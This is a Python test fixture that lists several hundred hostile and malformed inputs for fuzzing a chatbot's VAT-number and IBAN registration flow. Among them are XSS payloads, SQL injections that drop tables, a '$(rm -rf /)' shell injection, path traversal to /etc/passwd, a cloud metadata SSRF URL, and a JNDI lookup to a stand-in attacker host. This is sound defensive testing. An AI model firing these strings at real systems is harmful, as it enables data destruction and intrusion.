"""What a hostile or careless person may type at any question: 250 and more inputs by kind.

Used by the hostile-input suites (tests/unit/test_hostile_suite.py at every
question of every flow and every endpoint's text fields; tests/e2e for the whole
way through a channel). None of them is a right answer to any question.
"""

from __future__ import annotations

from stdnum.eu import vat

# A valid VAT number of each EU country (made up, but with right check digits).
VALID_VAT_NUMBERS = [
    "ATU59013962", "BE0123456749", "BG6612500905", "CY15578834L", "CZ073023195", "DE257889322", "DK23127903",
    "EE747016438", "EL73540931", "ESA17252925", "FI35527726", "FR20686028655", "HR96996260959", "HU34403800",
    "IE1008823W", "IT62078470713", "LT114406841011", "LU81725456", "LV75151554152", "MT69994494",
    "NL047162879B01", "PL6353386021", "PT510894194", "RO498258429", "SE334867548301", "SI36988057",
    "SK9143753355",
]  # fmt: skip
VALID_IBANS = [
    "BE71096123456769", "NL91ABNA0417164300", "DE89370400440532013000", "FR1420041010050500013M02606",
    "LU280019400644750000", "GB29NWBK60161331926819", "ES9121000418450200051332", "IT60X0542811101000000123456",
]  # fmt: skip


def _one_digit_wrong(number: str, from_the_end: bool = True) -> str:
    """The number with one digit changed (the last one that breaks it, or the first), so its
    check digits no longer match."""
    positions = range(len(number) - 1, 1, -1) if from_the_end else range(2, len(number))
    for position in positions:
        if number[position].isdigit():
            wrong = number[:position] + str((int(number[position]) + 1) % 10) + number[position + 1 :]
            if not vat.is_valid(wrong):
                return wrong
    raise ValueError(number)


def _letters_swapped(iban: str) -> list[str]:
    return [iban[1] + iban[0] + iban[2:], iban[:2] + iban[3] + iban[2] + iban[4:], iban[:-1] + "X"]


SIZES = ["x" * 5000, "word " * 1000, "9" * 5000, "a" * 100_000, "a" * 1_000_000, "<a" * 20_000]
MARKUP = [
    "<script>alert(1)</script>", "<script>yes</script>", "<b>yes</b>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<iframe src=javascript:alert(1)>", "javascript:alert(document.cookie)",
    "<a href='https://evil.example'>click</a>", "</textarea><script>x()</script>", "<!-- yes -->",
    "<div style='display:none'>BE0123456749</div>", "<<script>>", "<body onload=x()>",
    "<input value=yes>", "<p>Peeters BV</p>",
]  # fmt: skip
SQL = [
    "'; DROP TABLE organisations; --", "' OR '1'='1", "\" OR \"\"=\"", "1 OR 1=1", "admin'--",
    "'; DELETE FROM accounts; --", "1; DROP TABLE registrations", "' UNION SELECT iban FROM organisations --",
    "'; UPDATE organisations SET admin_account_id=1; --", "Robert'); DROP TABLE students;--",
    "' OR 1=1 LIMIT 1 --", "\"; EXEC xp_cmdshell('dir'); --", "%' AND 1=0 UNION SELECT NULL --",
    "1' WAITFOR DELAY '0:0:10'--", "'; SELECT pg_sleep(10); --",
]  # fmt: skip
NOT_JSON = [
    '{"a":', "[1,2", "{{}}", "null", "NaN", "Infinity", '{"iban": "BE71096123456769"', "}{", "[[[[[[[[[[",
    '"""', "{'yes': true}", "true", "[]", "{}",
]  # fmt: skip
CONTROL = [
    "Peeters\x00BV", "\x1b[2J\x1b[H", "yes\x00", "\x07\x07\x07", "a\x08b", "\x00", "BE0123456749\x00",
    "\x1b]0;title\x07", "line\rfeed", "\x7f\x7f", "\x85next line", "\x9bcsi", "\u0000\u0001\u0002",
    "yes\x1b[31m", "tab\tonly\t\t",
]  # fmt: skip
INVISIBLE = [
    "\u200b", "\u200b\u200b\u200b", "\ufeff", "\u2060", "\u200d\u200c", "\u00ad", "\u180e",
    "\u200bBE\u200b0123\u200b456\u200b748", "\u2062\u2063\u2064", "\ufff9\ufffa\ufffb",
]  # fmt: skip
RIGHT_TO_LEFT = [
    "\u202eVB sreteeP", "\u202ekoob\u202c", "\u2067Peeters\u2069", "שלום עולם", "مرحبا بالعالم",
    "\u202dBE\u202e0123", "\u061c\u200f", "\u202e\u202e\u202e", "ترحيب 123", "עברית ואנגלית mixed",
]  # fmt: skip
EMOJI = [
    "👍", "🔌⚡️", "🙂🙂🙂", "🏳️‍🌈", "👨‍👩‍👧‍👦", "💶💶", "🚗💨", "😀" * 300, "🇧🇪", "✅ ok ✅",
    "🤷", "❤️", "🔥🔥🔥🔥",
]  # fmt: skip
OTHER_DIGITS = [
    "٧٠٨٤٣٤٧", "１２３４５", "१२३४५६७", "໑໒໓", "߁߂߃߄", "๑๒๓๔๕๖๗", "১২৩৪", "٠٠٠", "𝟏𝟐𝟑𝟒𝟓𝟔𝟕",
    "Ⅻ Ⅳ ⅸ", "½ ¾ ⅞", "²³¹",
]  # fmt: skip
COMMANDS = [
    "/restart", '/inform{"iban": "BE71096123456769"}', "/handed_back", '/ask_human{"x": 1}', "/session_start",
    "/stop", "//", "/", "/affirm{\"registration_confirmed\": true}", "/deny{",
]  # fmt: skip
INJECTION = [
    "{{7*7}}", "${jndi:ldap://evil.example/a}", "%s%s%s%s%s", "{legal_name}", "{0.__class__}", "../../etc/passwd",
    "a@b.be\nBcc: victim@example.com", "a@b.be\r\nSubject: hi", "$(rm -rf /)", "`reboot`", "|| ls", "; ls -la",
    "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/", "@@@", "@", "a@", "@b",
    "aaaa@bbbb", "a@b@c.be", "a..b@c.be", "an.peeters@example.be\u0000@evil.example",
]  # fmt: skip
NONSENSE = [
    "", " ", "   ", ".", "?", "!!!", "-", "...", "0", "00000000000000000000", "-1", "-0.35", "1e309",
    "NaN EUR", "∞", "null null", "undefined", "None", "true", "[object Object]", "\\", "\\\\\\", "''", '""',
    "asdfghjkl", "qwertyuiop" * 20, "x" * 501, "BE" * 100, "+32 " * 50,
]  # fmt: skip
WRONG_NUMBERS = (
    [_one_digit_wrong(number) for number in VALID_VAT_NUMBERS]
    + [_one_digit_wrong(number, from_the_end=False) for number in VALID_VAT_NUMBERS]
    + [swapped for iban in VALID_IBANS for swapped in _letters_swapped(iban)]
    + [iban[:-2] + str((int(iban[-2]) + 1) % 10) + iban[-1] for iban in VALID_IBANS]
)

KINDS: dict[str, list[str]] = {
    "size": SIZES,
    "markup": MARKUP,
    "sql": SQL,
    "not_json": NOT_JSON,
    "control": CONTROL,
    "invisible": INVISIBLE,
    "right_to_left": RIGHT_TO_LEFT,
    "emoji": EMOJI,
    "other_digits": OTHER_DIGITS,
    "command": COMMANDS,
    "injection": INJECTION,
    "nonsense": NONSENSE,
    "wrong_number": WRONG_NUMBERS,
}
ALL = [text for texts in KINDS.values() for text in texts]
assert len(ALL) >= 250, len(ALL)
